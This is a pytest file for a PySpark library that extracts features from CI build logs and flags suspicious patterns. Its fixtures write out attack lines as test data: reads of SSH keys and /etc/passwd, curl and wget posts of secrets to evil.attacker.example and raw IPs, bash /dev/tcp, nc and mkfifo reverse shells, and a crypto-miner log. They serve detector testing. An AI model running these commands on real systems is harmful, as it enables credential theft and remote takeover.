"""Text operators against small restatements in plain Python."""

import math
import re
from collections import Counter

import pytest
from pyspark.sql import functions as F

from buildlens.functions import logtext as L
from buildlens.functions import rules
from buildlens.operators import features as B
from buildlens.operators import steps as S

MINER = """
2025-12-24T10:01:05Z Downloading dependencies...
2025-12-24T10:02:00Z Extracting xmrig-6.18.0-linux-x64.tar.gz
2025-12-24T10:02:20Z [2025-12-24 10:02:20.456] POOL: stratum+tcp://pool.example.com:4444
2025-12-24T10:02:30Z Algo: cryptonight/r
2025-12-24T10:02:35Z Mining started - hashrate: 0 H/s
"""
EXFILTRATION = """step
cat ~/.ssh/id_rsa | base64 > /tmp/key.b64
cat /etc/passwd >> /tmp/data.txt
curl --data-binary @/tmp/x https://evil.attacker.example/collect
curl -X POST -d "secret=$TOKEN" http://45.33.32.156:8080/up
wget --post-file=/tmp/p http://192.168.1.100:9999/steal
echo "SGVsbG8gd29ybGQhIFRoaXMgaXMgYSBiYXNlNjQgZW5jb2RlZCBzdHJpbmcgdGhhdCBjb250YWlucyBz"
"""
SHELL = """
/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
nc -e /bin/sh 192.168.1.100 9999
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.10.14.5 1234 >/tmp/f
eval $(curl
 -X POST http://x.example)
"""
EDGES = [
    "", "one line only with error", "\n", "\n\n  \n", "a\n", " \n \nreal", "ERROR Failed\nerror\nno\nWarn: x",
    "curl a\rb -X POST\ncurl x\n-X POST", "nc\n-e", "ſ baſh -i\nBASH  -I", "kK\nmKKIFO mkfifo",
    "010.1.1.1 172.016.0.1 8.8.8.8\n999.1.1.1 x1.2.3.4 1.2.3.4.5\né1.1.1.1é",
    "HTTPS://EvilGitHub.com/a http://x.io:80/b http://user@h.org\nhttp://\thttps://a.b<c>", "日本語 テスト\n２０２４年 ok\n",
    MINER, EXFILTRATION, SHELL, "base64 -d base64 --decode |base64 echo 'x'\necho " + "A" * 60 + "==",
    "  x 1 \nx 2\nx 3  \n\tdeadbeefdeadbeefdeadbeefdeadbeefdeadbeef\n",
]


def lines_of(text):
    parts = text.split("\n") if text else []
    return [] if len(parts) <= 1 else parts


def expected(text):
    lines = lines_of(text)
    whole = "\n".join(lines)
    n = len([x for x in lines if x.strip()])
    count = lambda words: sum(any(w in x.lower() for w in words) for x in lines)
    ips = set(re.findall(rules.IP_PATTERN, whole))

    def private(ip):
        a, b = (int(p) for p in ip.split(".")[:2])
        return a in (10, 127) or (a == 172 and 16 <= b <= 31) or (a == 192 and b == 168)

    domains = [u.split("/")[0].lower().split(":")[0] for u in re.findall(rules.URL_PATTERN, whole, re.I)]
    templates = Counter()
    for x in lines:
        if x.strip():
            t = re.sub(r"\d+", "<NUM>", x)
            templates[re.sub(r"[a-f0-9]{32,}", "<HASH>", t, flags=re.I).strip()] += 1
    total = sum(templates.values())
    entropy = -sum(c / total * math.log2(c / total) for c in templates.values()) if total else 0.0
    return {
        "log_line_count": n, "char_density": sum(map(len, lines)) / max(n, 1),
        "error_count": count(rules.ERROR_KEYWORDS), "warning_count": count(rules.WARNING_KEYWORDS),
        "suspicious_pattern_count": sum(len(re.findall(p, whole, re.I)) for p in rules.SUSPICIOUS_PATTERNS),
        "external_ip_count": sum(not private(ip) for ip in ips),
        "external_url_count": sum(not any(d.endswith(t) for t in rules.TRUSTED_DOMAINS) for d in domains),
        "base64_pattern_count": len(re.findall(rules.BASE64_PATTERN, whole, re.I)),
        "unique_templates": len(templates), "template_entropy": entropy,
    }


def test_features_equal_restatement(spark):
    df = spark.createDataFrame([(str(i), t) for i, t in enumerate(EDGES)], "build_id string, raw_logs string")
    rows = {r["build_id"]: r for r in B.build_features_12(df).collect()}
    for i, text in enumerate(EDGES):
        for name, value in expected(text).items():
            assert rows[str(i)][name] == pytest.approx(value, abs=0.0051 if name == "char_density" else 6e-5), (i, name)


def test_attack_texts_trigger_the_command_rule(spark):
    df = spark.createDataFrame([(t,) for t in (MINER, EXFILTRATION, SHELL)], "raw_logs string").withColumn("build_id", F.lit("x"))
    assert all(r[0] >= 1 for r in B.build_features_12(df).select("suspicious_pattern_count").collect())


def test_step_lines_replace_short_logs(spark):
    schema = "build_id string, raw_logs string, steps array<struct<name:string,log_lines:array<string>>>"
    df = spark.createDataFrame([
        ("a", "single error", [("s", ["error one", "ok\nwith break"]), ("t", None)]),
        ("b", "two\nlines", [("s", ["error"])]),
        ("c", None, None),
    ], schema)
    got = {r["build_id"]: (r["log_line_count"], r["error_count"], r["step_count"], r["char_density"]) for r in B.build_features_12(df).collect()}
    assert got == {"a": (2, 1, 2, 11.0), "b": (2, 0, 1, 4.0), "c": (0, 0, 0, 0.0)}


def mask(line):
    for i, (pattern, replacement) in enumerate(rules.MASK_PATTERNS):
        if replacement == "<NUM>":
            pattern = r"(?<=[^a-zA-Z0-9])(?:-?\+?\d+)(?=[^a-zA-Z0-9])|^(?:-?\+?\d+)(?=[^a-zA-Z0-9])"
        line = re.sub(pattern, replacement, line)
    return line


def test_masking_a_text_equals_masking_its_lines(spark):
    texts = EDGES + ["1 2 3\n4\n5 \n-6,+7;-+8 x9 9x\n10:11:12 2024-01-02 03:04:05 v1.2.3 0xff /a/b.c\nhttps://x/1 5",
                     "550e8400-e29b-41d4-a716-446655440000 " + "a" * 40 + " " + "b" * 64 + " 1.2.3.4"]
    df = spark.createDataFrame([(i, t) for i, t in enumerate(texts)], "i int, t string")
    rows = df.select("i", L.mask_variables(F.col("t")).alias("m"), F.transform(F.split("t", "\n", -1), L.tokenize).alias("k")).collect()
    for r in rows:
        want = [mask(x) for x in texts[r["i"]].split("\n")]
        assert r["m"].split("\n") == want
        tokens = [[t for t in re.split(rules.TOKEN_DELIMITERS, x) if t] for x in texts[r["i"]].split("\n")]
        assert r["k"] == tokens


def detect(text):
    steps, name, lines = [], None, []
    for line in text.split("\n"):
        hit = next((m.group(1) for p in rules.STEP_MARKERS if (m := re.match(p, line))), None)
        if hit:
            if name:
                steps.append((name, lines))
            name, lines = hit, [line]
        elif name:
            lines.append(line)
    if name:
        steps.append((name, lines))
    return steps or [("unknown", text.split("\n"))]


def test_steps(spark):
    texts = ["", "no marker\nat all", "lost\n##[group]build x\na\nb\n=== Step: deploy ===\nRunning tests...\nc\n  ❯ last one\n",
             "##[group]\r\nx", "❯ \n❯ a\n\nRunning ...\n=== Step:  ===", "##[group]a\n##[group]b\n##[group]a\nz"]
    df = spark.createDataFrame([(str(i), t) for i, t in enumerate(texts)], "build_id string, raw_logs string")
    out = S.with_steps(df).withColumn("n", S.step_count(F.col("raw_logs"))).withColumn("d", S.distribution_entries(F.col("steps")))
    for r in out.collect():
        want = detect(texts[int(r["build_id"])])
        assert [(s["name"], s["log_lines"]) for s in r["steps"]] == want
        assert r["n"] == len(want)
        assert {e["name"]: e["lines"] for e in r["d"]} == {n: len(x) for n, x in want}


def test_strict_dot(spark):
    df = spark.createDataFrame([("see http://evilgithub.com/x http://api.github.com/y http://github.com",)], "t string")
    row = df.select(L.external_url_count(F.col("t")).alias("a"), L.external_url_count(F.col("t"), strict_dot=True).alias("b")).first()
    assert (row["a"], row["b"]) == (0, 1)


def test_plan_of_the_features_has_no_shuffle(spark, tmp_path):
    path = str(tmp_path / "logs")
    spark.createDataFrame([("a", "x\ny")], "build_id string, raw_logs string").write.parquet(path)
    plan = B.build_features_12(spark.read.parquet(path))._jdf.queryExecution().executedPlan().toString()
    assert "Exchange" not in plan


VARIANTS = {"i": "iIıİ", "s": "sSſ", "k": "kK\u212a"}
MATCHES = ["curl x -X POST", "wget --post", "nc -e", "bash -i", "/dev/tcp/", "mkfifo", "xmrig", "minerd", "cryptonight", "stratum+tcp://", "hashrate",
           "cat /etc/passwd", "cat /etc/shadow", "$(x)", "eval x", "echo " + "A" * 60, "base64 -d", "x | base64"]


def test_pattern_counts_equal_the_pattern_alone(spark):
    """Also for letters that only a case-insensitive pattern takes for i, s and k."""
    texts = set(MATCHES)
    for m in MATCHES:
        for letter, others in VARIANTS.items():
            texts |= {m.replace(letter, o) for o in others} | {m.upper().replace(letter.upper(), o) for o in others}
    df = spark.createDataFrame([(t,) for t in sorted(texts)], "t string")
    patterns = [*dict.fromkeys([*rules.SUSPICIOUS_PATTERNS, *rules.SUSPICIOUS_COMMANDS_STRICT, rules.BASE64_PATTERN])]
    assert all(L.needles(p) for p in patterns)
    pairs = [F.struct(L.pattern_count(F.col("t"), F.lower("t"), p), F.regexp_count("t", F.lit(f"(?idU){p}"))) for p in patterns]
    for row in df.select("t", *pairs).collect():
        for p, (got, want) in zip(patterns, row[1:], strict=True):
            assert got == want, (row[0], p)
    for pattern in patterns:
        for text in texts:
            if re.search(pattern, text, re.IGNORECASE):
                assert any(n in text.lower() for n in L.needles(pattern)), (pattern, text)
